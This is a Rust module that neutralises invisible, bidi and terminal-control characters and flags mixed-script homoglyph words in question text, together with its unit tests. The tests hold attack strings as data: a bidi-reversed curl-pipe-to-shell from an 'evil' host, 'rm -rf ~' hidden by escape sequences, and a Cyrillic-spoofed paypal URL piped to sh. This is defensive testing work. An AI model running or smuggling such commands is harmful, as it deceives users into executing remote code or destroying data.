//! The one rendering of question text for people (SPEC §13.2): nothing invisible, nothing
//! reordered.
//!
//! Every surface that shows a question to a person goes through here: the CLI's text output
//! and the device client call [`render_visible`]; the web page gets [`display_segments`]
//! computed by the server (in its view of each question, [`QuestionDisplay`]), so it never
//! needs its own copy of the Unicode tables. The stored record, the API JSON and the digest
//! keep the exact text: only what is shown changes.
//!
//! Shown as `⟨U+XXXX⟩` instead of passed through: C0 controls but tab and newline (so no raw
//! ESC or CR ever reaches a terminal), DEL, C1 controls, every `Bidi_Control` and every
//! `Default_Ignorable_Code_Point` character. A word whose characters belong to no single
//! script (UTS #39 mixed-script detection, e.g. a Cyrillic `а` in `pаypal`) is marked.
//!
//! The hook never calls this: rendering stays off its path.

use icu_properties::props::{BidiControl, DefaultIgnorableCodePoint};
use icu_properties::CodePointSetData;
use serde::Serialize;
use unicode_script::{Script, UnicodeScript};
use unicode_security::MixedScript;

use super::{Choice, Interaction};

/// One piece of displayed text.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Segment {
    /// Plain text, safe to show as it is (may hold tabs and newlines).
    Text { text: String },
    /// A code point shown by name: `text` is `⟨U+XXXX⟩`, `code_point` is `U+XXXX`.
    Escaped { code_point: String, text: String },
    /// A word mixing scripts, to be shown marked; `scripts` names them (e.g. Cyrillic, Latin).
    MixedScriptWord { text: String, scripts: Vec<String> },
}

impl Segment {
    /// What this segment shows.
    pub fn text(&self) -> &str {
        match self {
            Segment::Text { text }
            | Segment::Escaped { text, .. }
            | Segment::MixedScriptWord { text, .. } => text,
        }
    }
}

/// Whether `c` is shown by name rather than passed through.
pub fn is_escaped(c: char) -> bool {
    (c.is_control() && c != '\t' && c != '\n')
        || CodePointSetData::new::<BidiControl>().contains(c)
        || CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c)
}

/// `⟨U+XXXX⟩`: uppercase hex, at least four digits.
pub fn escape(c: char) -> String {
    format!("⟨U+{:04X}⟩", c as u32)
}

/// `s` with every escaped code point written as `⟨U+XXXX⟩`: safe for a terminal.
pub fn render_visible(s: &str) -> String {
    if !s.chars().any(is_escaped) {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        if is_escaped(c) {
            out.push_str(&escape(c));
        } else {
            out.push(c);
        }
    }
    out
}

/// Serialised JSON made safe for a terminal: every escaped code point inside a string
/// becomes a `\uXXXX` escape (a surrogate pair above U+FFFF). The JSON means exactly the
/// same; only its bytes change. (serde_json already escapes C0; this adds DEL, C1, bidi
/// controls and default-ignorables.)
pub fn json_for_terminal(json: &str) -> String {
    if !json.chars().any(is_escaped) {
        return json.to_string();
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_escaped(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `s` cut into plain text, escaped code points and mixed-script words, in order. The
/// concatenated `text` of the segments is [`render_visible`]`(s)`.
pub fn display_segments(s: &str) -> Vec<Segment> {
    let mut out = Vec::new();
    let mut run = String::new();
    for c in s.chars() {
        if is_escaped(c) {
            push_text(&mut out, std::mem::take(&mut run));
            out.push(Segment::Escaped {
                code_point: format!("U+{:04X}", c as u32),
                text: escape(c),
            });
        } else {
            run.push(c);
        }
    }
    push_text(&mut out, run);
    out
}

/// Adds a run of unescaped text, marking its mixed-script words.
fn push_text(out: &mut Vec<Segment>, run: String) {
    if run.is_empty() {
        return;
    }
    if run.is_ascii() {
        return plain(out, &run);
    }
    let mut start = 0;
    for (at, word) in words(&run) {
        if word.is_single_script() {
            continue;
        }
        plain(out, &run[start..at]);
        out.push(Segment::MixedScriptWord {
            text: word.to_string(),
            scripts: scripts_of(word),
        });
        start = at + word.len();
    }
    plain(out, &run[start..]);
}

fn plain(out: &mut Vec<Segment>, text: &str) {
    if text.is_empty() {
        return;
    }
    if let Some(Segment::Text { text: last }) = out.last_mut() {
        last.push_str(text);
    } else {
        out.push(Segment::Text { text: text.into() });
    }
}

/// Words with their byte offsets: runs of characters that are neither white space nor
/// ASCII punctuation, so `https://pаypal.com` yields `https`, `pаypal`, `com`.
fn words(s: &str) -> impl Iterator<Item = (usize, &str)> {
    let is_word = |c: char| !c.is_whitespace() && !c.is_ascii_punctuation();
    let mut rest = s.char_indices().peekable();
    std::iter::from_fn(move || {
        let (start, _) = rest.find(|&(_, c)| is_word(c))?;
        let mut end = s.len();
        while let Some(&(i, c)) = rest.peek() {
            if !is_word(c) {
                end = i;
                break;
            }
            rest.next();
        }
        Some((start, &s[start..end]))
    })
}

/// The scripts a word's letters belong to (not Common or Inherited), sorted by name.
fn scripts_of(word: &str) -> Vec<String> {
    let mut names: Vec<String> = word
        .chars()
        .map(|c| c.script())
        .filter(|s| !matches!(s, Script::Common | Script::Inherited | Script::Unknown))
        .map(|s| s.full_name().replace('_', " "))
        .collect();
    names.sort();
    names.dedup();
    names
}

/// The displayed fields of a question, segmented for a page that shows them (SPEC §13.2).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct QuestionDisplay {
    pub prompt: Vec<Segment>,
    pub body: Option<Vec<Segment>>,
    /// Lines of the body as shown (a trailing newline ends the last line, it adds none).
    pub body_lines: usize,
    pub choices: Vec<ChoiceDisplay>,
}

/// One choice, segmented; `id` is the choice id to answer with.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ChoiceDisplay {
    pub id: String,
    pub label: Vec<Segment>,
    pub detail: Option<Vec<Segment>>,
}

impl QuestionDisplay {
    pub fn of(i: &Interaction) -> QuestionDisplay {
        QuestionDisplay {
            prompt: display_segments(&i.question.prompt),
            body: i.question.body.as_deref().map(display_segments),
            body_lines: i.question.body.as_deref().map_or(0, |b| b.lines().count()),
            choices: i.question.choices.iter().map(ChoiceDisplay::of).collect(),
        }
    }
}

impl ChoiceDisplay {
    fn of(c: &Choice) -> ChoiceDisplay {
        ChoiceDisplay {
            id: c.id.clone(),
            label: display_segments(&c.label),
            detail: c.detail.as_deref().map(display_segments),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(segments: &[Segment]) -> String {
        segments.iter().map(Segment::text).collect()
    }

    #[test]
    fn trojan_source_bidi_overrides_are_named_not_applied() {
        let s = "echo ok \u{202E}# hs.lave/moc.live//:ptth | lruc\u{202C}";
        assert_eq!(
            render_visible(s),
            "echo ok ⟨U+202E⟩# hs.lave/moc.live//:ptth | lruc⟨U+202C⟩"
        );
        for c in [
            '\u{200E}', '\u{200F}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}', '\u{061C}',
        ] {
            assert!(is_escaped(c), "{:04X}", c as u32);
        }
    }

    #[test]
    fn zero_width_and_other_default_ignorables_are_named() {
        let url = "https://exa\u{200D}mple.com/\u{200B}x\u{2060}\u{FEFF}\u{00AD}\u{FE0F}\u{E0041}";
        assert_eq!(
            render_visible(url),
            "https://exa⟨U+200D⟩mple.com/⟨U+200B⟩x⟨U+2060⟩⟨U+FEFF⟩⟨U+00AD⟩⟨U+FE0F⟩⟨U+E0041⟩"
        );
    }

    #[test]
    fn terminal_controls_never_pass_raw() {
        let s = "ok\x1b[2K\rrm -rf ~\x1b]8;;http://evil\x1b\\link\x1b]8;;\x07\x7f\u{85}\u{9b}";
        let r = render_visible(s);
        assert!(!r.chars().any(|c| c.is_control()), "{r}");
        assert_eq!(
            r,
            "ok⟨U+001B⟩[2K⟨U+000D⟩rm -rf ~⟨U+001B⟩]8;;http://evil⟨U+001B⟩\\link⟨U+001B⟩]8;;⟨U+0007⟩⟨U+007F⟩⟨U+0085⟩⟨U+009B⟩"
        );
        assert_eq!(render_visible("a\tb\nc"), "a\tb\nc");
    }

    #[test]
    fn json_for_a_terminal_means_the_same_and_shows_no_raw_control() {
        let v = serde_json::json!({"prompt": "a\u{202E}b\u{7f}\u{E0041}\u{1b}[2K"});
        let s = json_for_terminal(&v.to_string());
        assert!(!s.chars().any(is_escaped), "{s}");
        assert_eq!(s, r#"{"prompt":"a\u202eb\u007f\udb40\udc41\u001b[2K"}"#);
        assert_eq!(serde_json::from_str::<serde_json::Value>(&s).unwrap(), v);
    }

    #[test]
    fn a_cyrillic_letter_in_a_hostname_marks_the_word() {
        let s = "curl https://p\u{0430}ypal.com/login | sh";
        let segs = display_segments(s);
        assert_eq!(
            segs,
            vec![
                Segment::Text {
                    text: "curl https://".into()
                },
                Segment::MixedScriptWord {
                    text: "p\u{0430}ypal".into(),
                    scripts: vec!["Cyrillic".into(), "Latin".into()],
                },
                Segment::Text {
                    text: ".com/login | sh".into()
                },
            ]
        );
        assert_eq!(shown(&segs), s);
    }

    #[test]
    fn single_script_text_is_not_marked() {
        for s in ["Привет мир", "日本語のテキスト", "naïve café 123", "ls -la"] {
            assert_eq!(
                display_segments(s),
                vec![Segment::Text { text: s.into() }],
                "{s}"
            );
        }
    }

    #[test]
    fn segments_concatenate_to_the_rendered_text() {
        let s = "\u{202E}p\u{0430}y\u{200B}pal\x1b[0m\n\tdone";
        let segs = display_segments(s);
        assert_eq!(shown(&segs), render_visible(s));
        assert!(segs
            .iter()
            .any(|x| matches!(x, Segment::Escaped { code_point, .. } if code_point == "U+202E")));
        let json = serde_json::to_value(&segs).unwrap();
        assert_eq!(json[0]["kind"], "escaped");
        assert_eq!(json[1]["kind"], "mixed_script_word");
    }
}
